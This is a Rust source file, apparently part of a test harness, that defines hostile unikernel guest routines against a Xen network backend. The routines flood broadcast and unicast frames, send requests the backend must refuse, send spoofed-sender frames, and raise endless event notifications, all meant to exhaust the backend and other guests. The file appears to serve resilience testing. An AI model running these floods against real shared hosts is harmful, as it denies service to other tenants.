// SPDX-License-Identifier: MIT OR Apache-2.0
//! Attacks without an end on the time of the backend and of other guests.

use unikernel::{Guest, println};
use xen_abi::io::netif::TxRequest;

use crate::frames::{self, Frame};
use crate::raw;
use crate::transmit::Transmit;

/// How many requests are published with one event: nearly all that the ring holds.
const BATCH: usize = 250;

/// Broadcasts as fast as the backend takes frames.
pub(crate) fn broadcast(guest: &Guest) -> ! {
    println!("hostile: broadcasting");
    send_for_ever(guest, &frames::arp_request(guest), |request| request)
}

/// Sends frames to [`frames::NEIGHBOUR`] as fast as the backend takes them.
pub(crate) fn unicast(guest: &Guest) -> ! {
    println!("hostile: sending to {}", frames::NEIGHBOUR);
    send_for_ever(guest, &frames::to_neighbour(guest), |request| request)
}

/// Sends frames to [`frames::NEIGHBOUR`] and never waits: neither for responses nor for events.
pub(crate) fn restless(guest: &Guest) -> ! {
    println!("hostile: sending to {} without a pause", frames::NEIGHBOUR);
    let mut transmit = Transmit::new(guest);
    let request = transmit.place(0, &frames::to_neighbour(guest));
    loop {
        transmit.fill(request);
    }
}

/// Sends requests that the backend must refuse, as fast as it does so.
pub(crate) fn refused(guest: &Guest) -> ! {
    println!("hostile: sending requests that are refused");
    send_for_ever(guest, &frames::arp_request(guest), |request| TxRequest { size: 0, ..request })
}

/// Sends frames with a false sender, as fast as the backend drops them.
pub(crate) fn spoofed(guest: &Guest) -> ! {
    println!("hostile: sending frames with a false sender");
    send_for_ever(guest, &frames::spoofed(guest)[0], |request| request)
}

/// Raises events without a reason.
pub(crate) fn storm(guest: &Guest) -> ! {
    println!("hostile: raising events");
    let port = raw::vif(guest).port;
    loop {
        port.notify();
    }
}

fn send_for_ever(guest: &Guest, frame: &Frame, change: impl Fn(TxRequest) -> TxRequest) -> ! {
    let mut transmit = Transmit::new(guest);
    let requests = [change(transmit.place(0, frame)); BATCH];
    loop {
        transmit.send(&requests);
    }
}
